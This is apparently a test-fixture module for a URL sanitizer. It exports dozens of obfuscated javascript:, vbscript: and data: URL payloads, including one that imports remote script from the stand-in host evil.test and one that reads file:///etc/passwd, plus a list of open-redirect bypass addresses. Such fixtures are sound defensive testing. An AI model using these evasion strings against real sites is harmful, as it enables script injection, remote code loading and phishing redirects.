const run = 'window.__xss=1,alert(1)';

/** Addresses that run or show something of somebody else's, in every disguise that a browser sees through. */
export const scriptAddresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `\tjavascript:${run}`, `\njavascript:${run}`, `\u0000javascript:${run}`, `\u0001\u0002javascript:${run}`, `\u001Fjavascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`,
  `java\r\nscript:${run}`, `j\na\nv\na\ns\nc\nr\ni\np\nt\n:${run}`, `javascript\t:${run}`, `javascript\n:${run}`, `javascript:\u2028${run}`, `javascript://x.test/%0a${run}`, `javascript://%E2%80%A8${run}`, `javascript:/*x*/${run}`, `javascript:void(${run})`,
  `javascript:"<script>${run}</script>"`, `javascript:%77indow.__xss=1`, `javascript:\\u0077indow.__xss=1`, `javascript:location='//evil.test'`, `javascript:import('//evil.test/x.js')`, `\u00A0javascript:${run}`, `\uFEFFjavascript:${run}`, `\u3000javascript:${run}`,
  `\u2003javascript:${run}`, `\u2029javascript:${run}`, `\u000Bjavascript:${run}`, `\u000Cjavascript:${run}`, `vbscript:msgbox(1)`, `VbScRiPt:msgbox(1)`, `livescript:${run}`, `mocha:${run}`, `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `DATA:text/html,<script>${run}</script>`, `da\tta:text/html,<script>${run}</script>`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`, `data:application/xhtml+xml,<html/>`,
  `data:,${run}`, `data://evil.test/,<script>${run}</script>`, `blob:https://evil.test/1`, `filesystem:https://evil.test/temporary/x`, `file:///etc/passwd`, `view-source:https://evil.test`, `about:blank`, `about:srcdoc`, `feed:javascript:${run}`, `jar:https://evil.test!/x`,
  `intent://evil.test#Intent;scheme=https;end`, `ms-settings:x`, `chrome://settings`, `ws://evil.test`, `javas\u0000cript:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `&#x6A;avascript&#58;${run}`, `java&NewLine;script&colon;${run}`, `java&Tab;script:${run}`,
];

/** Addresses of another site that read as paths of this one. Nobody may be led to them without having chosen so. */
export const leavingAddresses = [
  'https://evil.test', 'HTTPS:evil.test', 'https:/evil.test', 'https:\\\\evil.test', '//evil.test', '///evil.test', '////evil.test', '/\\evil.test', '\\/evil.test', '\\\\evil.test', '/\\/evil.test', '/\t/evil.test', '/\n/evil.test', '/\r/evil.test', '\t//evil.test', ' //evil.test',
  '\u0000//evil.test', '/.//evil.test', '/./\\evil.test', '/..//evil.test', '/a/..//evil.test', '/%2e//evil.test', '/%2e%2e//evil.test', '/.\t//evil.test', '//evil.test\\@x', '//x:y@evil.test', '//evil%E3%80%82test', '//evil\u3002test', '//EVIL.test/%2f..', '/;@evil.test', '@evil.test', '.evil.test', ':80@evil.test',
  'http:evil.test', 'ftp://evil.test', 'javascript:location="//evil.test"', 'data:text/html,<script>location="//evil.test"</script>', '/login?next=//evil.test', '/%09/evil.test', '/%5cevil.test', '/%2f%2fevil.test', '//[::ffff:7f00:1]', '//2130706433', '/\u2028/evil.test', '/\uFEFF/evil.test', '/\u00AD/evil.test',
];
